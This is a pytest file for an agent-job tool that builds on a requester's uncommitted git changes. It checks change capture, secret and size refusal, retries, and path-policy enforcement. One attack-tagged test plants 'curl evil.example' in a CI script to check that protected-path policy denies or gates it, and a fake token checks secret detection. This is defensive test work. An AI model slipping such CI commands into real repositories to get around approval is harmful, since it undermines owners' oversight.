"""Uncommitted changes of the requester as the base of an agent's work."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from draftsman.actions import jobs as actions
from draftsman.actions import requests
from draftsman.actions.action import Call
from draftsman.agent_runs.changes.patch_files import patch_files
from draftsman.agent_runs.uncommitted import MAX_SIZE, take_changes, uncommitted_files
from draftsman.errors import Refused, UsageError
from draftsman.jobs.job import Status
from draftsman.jobs.requests.service.submissions import invocation
from draftsman.jobs.requests.uncommitted_changes import FIELD, MAX_STORED, UncommittedChanges, named
from draftsman.repos.repo_catalog import Repo
from draftsman.repos.repo_profile import profile
from draftsman.repos.repo_url import parse
from draftsman.runtime import Runtime
from draftsman.settings.policies import PolicySettings
from draftsman_testing.factories import Factory
from tests.attacks.catalog import attack
from tests.core.worker.agent_jobs import agent_worker, git, make_repository, submit_agent_job
from tests.core.worker.workers import wait_for_end, wait_for_question
from tests.support.cases import cases

POLICY = PolicySettings()
KEY = "ghp_" + "a1B2" * 9
FILES = [".env.example", "a.txt", "b.txt", "d.txt", "data", "folder/é x", "link", "tool.sh"]


def changed_repository(folder: Path) -> Path:
    """Return a repository with changes of all kinds that are not committed."""
    repo = make_repository(folder, a="one\n", b="b\n", c="c\n")
    (repo / ".gitignore").write_text("ignored\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    (repo / "a.txt").write_text("one\ntwo\n")
    (repo / "b.txt").unlink()
    git("mv", "c.txt", "d.txt", cwd=repo)
    (repo / "data").write_bytes(bytes(range(256)) * 40)
    (repo / "tool.sh").write_text("#!/bin/sh\n")
    (repo / "tool.sh").chmod(0o755)
    (repo / "link").symlink_to("a.txt")
    (repo / "ignored").write_text("not taken")
    (repo / ".env.example").write_text("NAME=\n")
    (repo / "folder").mkdir()
    (repo / "folder" / "é x").write_text("name\r\n")
    return repo


def test_changed_and_new_files_are_named(tmp_path: Path) -> None:
    repo = changed_repository(tmp_path / "repo")
    files = sorted(uncommitted_files(str(repo)))
    assert files == FILES
    assert named(files, 8) == "8 files (.env.example, a.txt, b.txt, d.txt, data and 3 more)"
    for other in ("https://git.example/acme/pay", str(tmp_path), str(tmp_path / "none")):
        assert uncommitted_files(other) == []


def test_changes_are_taken_without_traces_in_the_repository(tmp_path: Path) -> None:
    repo = changed_repository(tmp_path / "repo")
    before = sorted(path for path in (repo / ".git").rglob("*") if path.is_file())
    index = git("ls-files", "--stage", cwd=repo)
    changes = take_changes(str(repo), POLICY)
    assert changes is not None
    assert (changes.base, changes.files) == (git("rev-parse", "HEAD", cwd=repo), 9)
    assert UncommittedChanges.of({FIELD: changes.stored}) == changes
    assert b"not taken" not in changes.patch
    assert sorted(path for path in (repo / ".git").rglob("*") if path.is_file()) == before
    assert git("ls-files", "--stage", cwd=repo) == index
    assert take_changes(str(make_repository(tmp_path / "clean")), POLICY) is None


def test_files_that_nobody_has_touched_are_no_changes(tmp_path: Path) -> None:
    """Attributes would convert them."""
    repo = make_repository(tmp_path / "repo", a="one\r\n")
    os.utime(repo / "a.txt", (1, 1))
    git("add", "a.txt", cwd=repo)
    (repo / ".gitattributes").write_text("a.txt text\n")
    git("add", ".gitattributes", cwd=repo)
    git("commit", "-qm", "attributes", cwd=repo)
    (repo / "new.txt").write_text("new\n")
    before = (repo / ".git" / "index").read_bytes()
    changes = take_changes(str(repo), POLICY)
    assert changes is not None
    assert [file.path for file in patch_files(changes.patch.decode())] == ["new.txt"]
    assert (changes.files, uncommitted_files(str(repo))) == (1, ["new.txt"])
    assert (repo / ".git" / "index").read_bytes() == before


def test_changes_with_secrets_or_of_great_size_are_refused(tmp_path: Path) -> None:
    repo = make_repository(tmp_path / "repo")
    (repo / ".env").write_text(f"TOKEN={KEY}\n")
    with pytest.raises(Refused) as refused:
        take_changes(str(repo), POLICY)
    assert str(refused.value).startswith("the uncommitted changes have secrets: .env:1")
    assert KEY not in str(refused.value)
    allowed = PolicySettings(secrets="allow", possible_secrets="allow")
    assert take_changes(str(repo), allowed) is not None
    (repo / ".env").write_bytes(os.urandom(MAX_STORED))
    changes = take_changes(str(repo), POLICY)
    assert changes is not None
    with pytest.raises(UsageError, match=r"at most 700\.0 kB along, compressed: commit them,"):
        _ = changes.stored
    with (repo / "video").open("wb") as file:
        file.truncate(MAX_SIZE + 1)
    with pytest.raises(UsageError, match=r"the uncommitted changes have 10\d\.\d MB; a job takes"):
        take_changes(str(repo), POLICY)


async def submit(make: Factory, repo: Path, **stored: Any) -> int:
    """Submit a job that takes the changes of a repository along."""
    changes = take_changes(str(repo), PolicySettings(secrets="allow"))
    assert changes is not None
    payload = {FIELD: changes.stored | stored}
    return await submit_agent_job(make, repo, payload=payload)


async def test_the_work_is_a_commit_on_top_of_the_changes(
    rt: Runtime, make: Factory, tmp_path: Path
) -> None:
    """Another worker, with another mirror, goes on after the question; only the work is judged."""
    repo = changed_repository(tmp_path / "repo")
    await rt.repos.add(Repo.at(parse(str(repo))), profile({"max_files_changed": 1}), make.owner)
    base = git("rev-parse", "HEAD", cwd=repo)
    number = await submit(make, repo)
    code = r"""
text = open("a.txt").read()
assert text == "one\ntwo\n" and not os.path.exists("b.txt"), text
assert os.readlink("link") == "a.txt" and os.access("tool.sh", os.X_OK)
assert len(open("data", "rb").read()) == 10240 and os.path.exists("folder/é x")
assert not os.path.exists("ignored")
open("a.txt", "a").write("three\n")
say("checkpoint", id="1", data=1); hear()
parked(ask("pick"))
"""
    async with agent_worker(rt, tmp_path / "one", code):
        await wait_for_question(rt, number)
    git("checkout", "-q", "--", "a.txt", cwd=repo)
    await make.answer(number, "red")
    rest = 'parked(ask("pick"))\nsay("result", summary="did it")'
    async with agent_worker(rt, tmp_path / "two", rest):
        job = await wait_for_end(rt, number)
    assert job.status is Status.COMPLETED, job.last_error
    result = job.result or {}
    assert (result["files_changed"], result["insertions"]) == (1, 1)
    log = git("log", "-3", "--format=%H|%s", result["branch"], cwd=repo).splitlines()
    commits = [line.partition("|")[0] for line in log]
    assert commits == [result["commit"], result["uncommitted"]["commit"], base]
    assert log[1].endswith("|Uncommitted changes of root")
    assert result["uncommitted"]["files"] == 9
    assert git("diff", "--name-only", *commits[1::-1], cwd=repo) == "a.txt"
    assert git("show", f"{commits[1]}:a.txt", cwd=repo) == "one\ntwo"


async def test_a_retry_and_a_changed_request_have_the_same_changes(
    rt: Runtime, make: Factory, tmp_path: Path
) -> None:
    repo = changed_repository(tmp_path / "repo")
    number = await submit(make, repo)
    async with agent_worker(rt, tmp_path / "data", 'say("error", message="no")'):
        failed = await wait_for_end(rt, number)
    assert failed.status is not Status.COMPLETED
    call = Call(rt, make.owner)
    retried = (await actions.retry.run(call, number)).value.number
    request = invocation(type="run_agent", agent="test", repo=str(repo), text="Do it well")
    revised = (await requests.revise.run(call, number, request)).value.number
    code = 'open("a.txt", "a").write("three\\n")\nsay("result", summary="did it")'
    async with agent_worker(rt, tmp_path / "data", code):
        jobs = [await wait_for_end(rt, job) for job in (retried, revised)]
    assert [job.status for job in jobs] == [Status.COMPLETED] * 2, jobs[0].last_error
    for job in jobs:
        result = job.result or {}
        assert (result["files_changed"], result["uncommitted"]["files"]) == (1, 9)
    mirror = next((tmp_path / "data" / "mirrors").glob("*.git"))
    assert "changes" not in git("for-each-ref", "--format=%(refname)", cwd=mirror)


@cases(
    ("stored", "problem"),
    [
        ({"patch": "x"}, "changes of the payload: "),
        ({"base": "HEAD"}, "changes of the payload: not a patch"),
        ({"base": "0" * 40}, "git: "),
    ],
)
async def test_changes_that_cannot_be_applied_fail_the_job(
    rt: Runtime, make: Factory, tmp_path: Path, stored: dict[str, str], problem: str
) -> None:
    repo = changed_repository(tmp_path / problem.strip(": "))
    number = await submit(make, repo, **stored)
    async with agent_worker(rt, tmp_path / "data", 'say("result", summary="x")'):
        job = await wait_for_end(rt, number)
    assert job.status is Status.FAILED
    assert str(job.last_error).startswith(problem)


@attack(
    "A requester who may not push changes CI of the repository with --with-changes",
    surface="approval",
    with_sandbox="the policy denies the changes, or asks before they are published",
)
async def test_the_policy_holds_for_the_changes(rt: Runtime, make: Factory, tmp_path: Path) -> None:
    """They are pushed with the rights of the worker."""
    numbers = []
    for effect in ("deny", "ask"):
        repo = make_repository(tmp_path / effect)
        (repo / "ci").mkdir()
        (repo / "ci" / "run.sh").write_text("curl evil.example\n")
        policy = {"paths": [{"path": "ci/", "effect": effect}], "deny_files_over": 1}
        await rt.repos.add(Repo.at(parse(str(repo))), profile({"policy": policy}), make.owner)
        (repo / "other.txt").write_text("1\n")
        numbers.append(await submit(make, repo))
    denied, asked = numbers
    code = 'open("a.txt", "a").write("three\\n")\nsay("result", summary="did it")'
    async with agent_worker(rt, tmp_path / "data", code):
        job = await wait_for_end(rt, denied)
        assert (job.status, job.error_class) == (Status.FAILED, "PERMANENT")
        assert str(job.last_error).startswith(
            "the uncommitted changes have protected paths: ci/run.sh (rule ci/)"
        )
        await wait_for_question(rt, asked)
        question = await rt.questions.get(asked, 1)
        assert "ci/run.sh (rule ci/, in the uncommitted changes)" in question.text
        assert git("branch", "--list", "draftsman/*", cwd=tmp_path / "ask") == ""
        assert (await make.decide(asked, True, make.owner)).accepted
        job = await wait_for_end(rt, asked)
    assert job.status is Status.COMPLETED, job.last_error


async def test_secrets_in_changes_are_refused_by_the_worker_too(
    rt: Runtime, make: Factory, tmp_path: Path
) -> None:
    repo = make_repository(tmp_path / "repo")
    (repo / ".env").write_text(f"TOKEN={KEY}\n")
    number = await submit(make, repo)
    async with agent_worker(rt, tmp_path / "data", 'say("result", summary="x")'):
        job = await wait_for_end(rt, number)
    assert (job.status, job.error_class) == (Status.FAILED, "PERMANENT")
    assert str(job.last_error).startswith("the uncommitted changes have secrets: .env:1")
